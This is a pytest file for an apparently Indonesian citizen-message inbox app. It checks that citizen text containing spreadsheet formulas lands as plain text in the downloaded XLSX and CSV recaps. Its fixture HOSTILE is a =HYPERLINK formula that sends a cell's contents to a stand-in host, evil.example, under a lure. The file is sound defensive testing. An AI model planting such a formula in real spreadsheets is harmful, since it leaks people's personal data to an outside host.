"""Citizens' text never becomes a formula in a file the team opens in Excel (issue 20, item 1).

End to end: a hostile message is ingested, an admin makes the recaps through the web with a real
session cookie, downloads them over HTTP, and the files are read back with openpyxl and csv.
"""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from pathlib import Path

import time_machine
from openpyxl import load_workbook

from inbox.models import Recap
from inbox.setup.runtime import Runtime
from inbox.web.app import create_app
from main import main
from recap.safe_cells import csv_text
from tests.factories import T0
from tests.web_helpers import login, make_case, make_users, post_form

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik detail KTP")'
LEADERS = ["+62 cek", "-1+1", "@SUM(A1)", "\tTAB", "\rCR"]


def _download(client, kind: str, fmt: str) -> bytes:
    recap = Recap.get((Recap.kind == kind) & (Recap.fmt == fmt))
    response = client.get(f"/rekap/{recap.id}/unduh")
    assert response.status_code == 200
    return response.data


def test_a_formula_from_a_citizen_is_text_in_the_downloaded_recaps(rt: Runtime, tmp_path: Path) -> None:
    make_users()
    with time_machine.travel(T0, tick=False):
        make_case(rt, 1, text=HOSTILE)
    client = create_app(rt, testing=True).test_client()
    with time_machine.travel(T0 + timedelta(days=1), tick=False):
        assert login(client, "admin1").status_code == 302
        assert post_form(client, "/rekap/buat-harian", {"day": "2026-11-23"}).status_code == 302
        assert post_form(client, "/rekap/buat-bulanan", {"month": "2026-11"}).status_code == 302
        downloads = {(kind, fmt): _download(client, kind, fmt)
                     for kind, fmt in (("daily", "xlsx"), ("monthly", "xlsx"), ("monthly", "csv"))}

    for kind in ("daily", "monthly"):
        data = downloads[(kind, "xlsx")]
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert not any("<f>" in xml or "<f " in xml for xml in sheets), kind
        workbook = load_workbook(io.BytesIO(data))
        found = [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row
                 if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
        assert found, f"the hostile text is missing from the {kind} XLSX"
        for cell in found:
            assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK"), (kind, cell.value)

    rows = list(csv.reader(io.StringIO(downloads[("monthly", "csv")].decode("utf-8-sig"))))
    texts = [v for row in rows for v in row if "HYPERLINK" in v]
    assert texts and all(v.startswith("'=HYPERLINK") for v in texts)


def test_the_csv_export_neutralises_every_leading_formula_character(rt: Runtime, tmp_path: Path,
                                                                       capsys) -> None:
    config = str(tmp_path / "config.toml")
    for n, text in enumerate([HOSTILE, *LEADERS], start=1):
        make_case(rt, n, text=text)
    out = tmp_path / "cases.csv"
    assert main(["--config", config, "export", "--format", "csv", "--out", str(out)]) == 0
    with open(out, encoding="utf-8", newline="") as fh:
        first = [row["first_message"] for row in csv.DictReader(fh)]
    assert sorted(first) == sorted("'" + t for t in [HOSTILE, *LEADERS])


def test_only_the_dangerous_leading_characters_are_prefixed() -> None:
    assert csv_text("KTP =belum jadi") == "KTP =belum jadi"
    assert csv_text("") == ""
    assert [csv_text(c + "x") for c in "=+-@\t\r"] == ["'" + c + "x" for c in "=+-@\t\r"]
